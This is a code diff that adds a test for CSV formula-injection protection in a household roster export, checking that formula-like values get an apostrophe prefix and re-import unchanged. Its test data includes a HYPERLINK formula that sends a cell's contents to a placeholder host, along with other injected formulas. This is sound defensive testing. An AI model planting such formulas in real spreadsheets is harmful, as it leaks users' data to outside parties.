@@ -233,6 +233,32 @@ def test_export_then_import_is_zero_changed_for_a_county_user(tmp_path, make_hou
     assert snapshot() == before
 
 
+def test_would_be_formulas_are_guarded_in_the_csv_export_and_import_back_unchanged(tmp_path, make_household):
+    """公式注入防护: a free-text value Excel would run as a formula is written after an apostrophe in the
+    CSV (not in the xlsx, whose cells are text); importing the CSV again changes nothing."""
+    from fupin.imports.pipelines.export_roster import export_roster
+
+    formula = '=HYPERLINK("http://example.invalid/?"&D2,"点击")'
+    make_household(members=2, group_name=formula, bank_name="@SUM(1+1)", phone="-1+2")
+    make_household(members=2, group_name="'=already quoted", phone="0598-1234567")
+    data = export_roster(None, MINGXI, "csv")
+    frame = pl.read_csv(io.BytesIO(data[3:]), infer_schema=False)
+    assert sorted(frame["自然村(组)"].unique().to_list()) == sorted(["'" + formula, "''=already quoted"])
+    assert sorted(frame["开户银行"].unique().to_list()) == ["", "'@SUM(1+1)"]
+    assert sorted(frame["联系电话"].unique().to_list()) == ["'-1+2", "0598-1234567"]
+    assert not any(v and v[0] in "=+-@" for c in frame.columns for v in frame[c].drop_nulls().to_list()
+                   if not v.lstrip("+-").replace(".", "", 1).isdigit())
+    sheet = fastexcel.read_excel(export_roster(None, MINGXI, "xlsx")).load_sheet(0, dtypes="string").to_polars()
+    assert formula in sheet["自然村(组)"].to_list()  # xlsx: as stored
+    path = tmp_path / "export.csv"
+    path.write_bytes(data)
+    before = snapshot()
+    batch = run(path)
+    assert (batch.rows_read, batch.rows_rejected, batch.households_unchanged, batch.households_changed) == (4, 0, 2, 0)
+    services.merge_batch(actor=None, batch_id=batch.pk)
+    assert snapshot() == before
+
+
 def test_rows_outside_the_users_region_are_rejected_not_written(tmp_path, make_user):
     officer = make_user("county", MINGXI)
     rows = pl.concat([new_rows(1), new_rows(1, village=first_village(NINGHUA, 0), start=90002)])
